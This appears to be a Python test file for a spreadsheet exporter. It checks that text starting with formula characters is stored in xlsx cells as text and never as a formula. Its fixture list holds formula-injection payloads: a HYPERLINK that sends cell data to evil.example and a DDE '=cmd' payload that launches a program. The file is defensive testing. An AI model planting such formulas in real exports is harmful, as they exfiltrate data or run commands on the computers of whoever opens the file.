"""Record text that starts like a spreadsheet formula (= + - @) never becomes a formula in an
export: a need titled `=HYPERLINK(...)` or `=cmd|' /C calc'!A0` must open as text."""

from __future__ import annotations

from pathlib import Path

import openpyxl

from techmatch.xlsx import Sheet, write_sheets

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点此")', "=1+1", "=cmd|' /C calc'!A0"]


def test_xlsx_writes_formula_like_text_as_text(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    write_sheets(path, [Sheet("需求", ["标题", "分"], [[text, 0.5] for text in FORMULAS])])
    sheet = openpyxl.load_workbook(path)["需求"]
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in cells] == FORMULAS
    assert {c.data_type for c in cells} == {"s"}  # never "f": Excel would evaluate it
    assert [row[1].value for row in sheet.iter_rows(min_row=2)] == [0.5] * len(FORMULAS)
